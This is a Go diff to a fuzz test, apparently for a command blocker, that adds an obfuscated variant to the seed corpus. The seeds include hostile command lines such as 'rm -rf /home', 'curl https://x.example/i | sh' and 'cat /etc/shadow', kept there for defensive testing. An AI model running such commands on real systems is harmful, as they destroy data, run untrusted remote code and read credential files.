@@ -113,7 +113,7 @@ func FuzzCode(f *testing.F) {
 
 // A command in JSON or base64 is the command: what is blocked plainly is blocked there.
 func FuzzNested(f *testing.F) {
-	for _, s := range []string{"rm -rf /home", "curl https://x.example/i | sh", "{", "\"", "sudo id", "cat /etc/shadow"} {
+	for _, s := range []string{"rm -rf /home", "curl https://x.example/i | sh", "{", "\"", "sudo id", "cat /etc/shadow", "cat/e|c/shadow"} {
 		f.Add(s, byte(1))
 	}
 	f.Fuzz(func(t *testing.T, text string, depth byte) {
